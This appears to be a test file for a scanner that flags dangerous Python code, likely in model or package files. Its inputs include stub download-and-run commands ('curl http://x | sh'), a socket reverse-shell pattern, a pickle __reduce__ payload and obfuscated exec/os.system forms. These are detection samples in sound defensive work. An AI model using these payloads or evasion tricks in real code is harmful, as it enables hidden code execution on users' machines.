import * as fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { inspectPython, pythonFormat, PYTHON_LIMIT } from '../../../../utils/formats/code/python';
import { marshalledCode, reachingName } from '../../../../utils/formats/code/python/marshal';
import { analyze, utf8 } from '../../../fixtures/analyze';
import { codeObject, type CodeLayout } from '../../../fixtures/marshal';

const idsOf = (text: string, verdict: string) =>
  inspectPython(text, null)
    .findings.filter((each) => each.verdict === verdict)
    .map(({ id }) => id);

describe('a program that runs something when it is imported', () => {
  test.each([
    ['a command', 'import os\nos.system("x")'],
    ['under another name', 'import os.path as p, os as o\no.system("x")'],
    ['imported alone', 'from subprocess import run as r\nr(["x"])'],
    ['assigned', 'import os\ns = os.system\ns("x")'],
    ['built in', 'exec("x")'],
    ['built in, assigned', 'e = exec\ne("x")'],
    ['of builtins', 'import builtins\nbuiltins.eval("x")'],
    ['by __import__', '__import__("o" + "s").system("x")'],
    ['by import_module', 'from importlib import import_module as i\ni("os").system("x")'],
    ['by getattr', String.raw`import os${'\n'}getattr(os, "sys\x74em")("x")`],
    ['by its dictionary', 'import os\nos.__dict__["system"]("x")\nvars(os)["system"]("x")'],
    ['by sys.modules', 'import sys\nsys.modules["os"].system("x")'],
    ['by globals', 'globals()["__builtins__"]["exec"]("x")'],
    ['in letters of another width', 'ｅval("1")'],
    ['in a class body', 'import os\nclass A:\n  x = os.popen("x").read()'],
    ['in a default argument', 'import os\ndef f(x=os.system("x")):\n  pass'],
    ['in a decorator', 'import os\n@os.system("x")\ndef f(): pass'],
    ['in a branch', 'import os\nif x:\n  os.system("x")'],
    ['beside the guard', 'import os\nif __name__ == "__main__":\n  pass\nelse:\n  os.system("x")'],
    ['by a function called', 'import os\ndef g():\n  os.system("x")\ndef f():\n  g()\nf()'],
    [
      'by a constructor',
      'class A:\n  def __init__(self):\n    self.go()\n  def go(self):\n    eval("x")\nA()',
    ],
    ['by a method', 'class A:\n  def go(self):\n    eval("x")\nA().go()'],
    [
      'by an install command',
      'from setuptools import setup\nclass I(x):\n  def run(self):\n    eval("x")\nsetup(cmdclass={"install": I})',
    ],
    ['a request', 'import requests\nrequests.get("x")'],
    ['a socket', 'import socket\nsocket.socket().connect("x")'],
  ])('%s', (_, text) => expect(idsOf(text, 'dangerous')).toContain('python/on-import'));
});

describe('a program that is dangerous wherever the call stands', () => {
  test.each([
    ['decoded code', 'import base64\ndef f():\n  exec(base64.b64decode("x"))', 'python/decoded-code'],
    [
      'decoded code by a name',
      'import zlib\nz = zlib.decompress(b"x")\ndef f(): exec(z)',
      'python/decoded-code',
    ],
    ['fetched code', 'import requests\ndef f():\n  eval(requests.get("x").text)', 'python/decoded-code'],
    ['download and run', 'import os\ndef f():\n  os.system("curl http://x | sh")', 'python/command'],
    [
      'download and run, in a list',
      'import subprocess\ndef f():\n  subprocess.run(["wget", "x", "|", "bash"])',
      'python/command',
    ],
    [
      'a remote shell',
      'import socket, os\ndef f():\n  s = socket.socket()\n  os.dup2(s.fileno(), 0)\n  os.system("sh")',
      'python/remote-shell',
    ],
    [
      'a payload',
      'import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ("x",))',
      'python/reduce',
    ],
    ['utf-7', '# coding: utf-7\nx = 1', 'python/encoding'],
  ])('%s', (_, text, id) => expect(idsOf(text, 'dangerous')).toContain(id));
});

describe('a program that is code and no more', () => {
  test.each([
    [
      'model code',
      'import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    return torch.compile(self.model.eval())(x)',
      [],
    ],
    ['a process in a function', 'import os\ndef f():\n  os.system("x")', ['python/process']],
    [
      'a process behind the guard',
      'import os\nif __name__ == "__main__":\n  os.system("x")',
      ['python/process'],
    ],
    ['a lambda', 'import os\nf = lambda: os.system("x")', ['python/process']],
    ['loading', 'import torch\ntorch.load("x")', ['python/deserialize']],
    ['writing', 'open("x", "w")\nopen("y", mode="ab")\nopen("z")', ['python/write']],
    ['native code', 'import ctypes\nctypes.CDLL("x")', ['python/native']],
    ['a computed import', 'import importlib\nimportlib.import_module(x)', ['python/import']],
    ['a computed name', 'import os\ndef f():\n  getattr(os, x)()', ['python/hidden']],
    ['its own eval', 'def eval(x): return x\neval(1)', []],
    ['utf-8', '# -*- coding: utf-8 -*-\nx = 1', []],
  ])('%s', (_, text, ids) => {
    expect(idsOf(text, 'dangerous')).toEqual([]);
    expect(idsOf(text, 'suspicious')).toEqual(['python/source', ...ids]);
  });

  test.each(['', '"""text"""\n', '# comment\n', 'pass'])('or none: %j', (text) =>
    expect(inspectPython(text, null)).toEqual({ findings: [], imports: [] }),
  );

  it('that is too long', () =>
    expect(idsOf(' '.repeat(PYTHON_LIMIT + 1), 'suspicious')).toEqual(['python/too-long']));
});

describe('imports', () => {
  it('are listed with their grade', () => {
    const text =
      'import os.path as p, torch\nfrom a.b import (c as d, e)\nfrom ..z.y import r\nfrom x import *';
    expect(
      inspectPython(text, 'm').imports.map(({ module, name, grade, member }) => [
        module,
        name,
        grade,
        member,
      ]),
    ).toEqual([
      ['os.path', '*', 'unlisted', 'm'],
      ['torch', '*', 'allowed', 'm'],
      ['a.b', 'c', 'unlisted', 'm'],
      ['a.b', 'e', 'unlisted', 'm'],
      ['..z.y', 'r', 'allowed', 'm'],
      ['x', '*', 'unlisted', 'm'],
    ]);
  });

  it('that are called have the call, at its byte', () => {
    const { imports } = inspectPython('# é\nimport os\nos.system("\u0007x")', null);
    expect(imports.at(-1)).toEqual({
      module: 'os',
      name: 'system',
      grade: 'dangerous',
      call: 'os.system("⟨U+0007⟩x")',
      offset: 15,
      member: null,
    });
  });
});

test('any program is read to an end', () => {
  const pieces = fc.constantFrom(
    'import os',
    'from x import ',
    'def f():',
    '\n',
    '  ',
    'exec(',
    ')',
    '"',
    "'''",
    'os.system',
    '.',
    '[',
    ']',
    'lambda',
    ':',
    '=',
    '\\',
    '@',
    'class A',
    '__reduce__',
    'getattr(',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string())), (parts) => {
      expect(Array.isArray(inspectPython(parts.join(''), null).findings)).toBe(true);
    }),
  );
  inspectPython(`x = ${'('.repeat(20_000)}`, null);
  inspectPython(`${'f('.repeat(2_000)}`, null);
});

describe('the analyzer', () => {
  test.each([
    ['import os\nos.system("x")', true, 'dangerous'],
    ['class A:\n  x = 1', true, 'suspicious'],
    ['#!/usr/bin/env python3\n', true, 'safe'],
    ['{"import": 1}', false, 'suspicious'],
    ['import x\0', false, 'suspicious'],
  ])('%j', async (text, matches, verdict) => {
    expect(pythonFormat.matches(utf8(text), text.length)).toBe(matches);
    expect((await analyze(pythonFormat, utf8(text))).verdict).toBe(verdict);
  });
});

describe('marshalled code', () => {
  test.each<CodeLayout>(['2.7', '3.7', '3.8', '3.11'])('of Python %s gives its names', (layout) => {
    const inner = codeObject({ layout, names: ['system'], constants: [] });
    const outer = codeObject({ layout, names: ['x', 'y'], constants: ['text', inner] });
    const code = marshalledCode(outer);
    expect(code?.names).toEqual(['system', 'x', 'y']);
    expect(code?.texts).toContain('text');
    expect(code && reachingName(code)).toBe('system');
    expect(marshalledCode(outer.subarray(0, outer.length - 8))).toBeNull();
  });

  it('without names reaches nothing', () => {
    const code = marshalledCode(codeObject({ layout: '3.11', names: ['math', 'sqrt'], constants: [] }));
    expect(code && reachingName(code)).toBeNull();
  });

  it('of any bytes is read to an end', () => {
    const valid = codeObject({ layout: '3.11', names: ['a'], constants: ['b'] });
    fc.assert(
      fc.property(fc.nat(valid.length - 1), fc.nat(255), (at, value) => {
        const bytes = valid.slice();
        bytes[at] = value;
        marshalledCode(bytes);
      }),
    );
    fc.assert(fc.property(fc.uint8Array(), (bytes) => void marshalledCode(Uint8Array.of(0x63, ...bytes))));
    expect(marshalledCode(Uint8Array.of(0x4e))).toBeNull();
  });
});
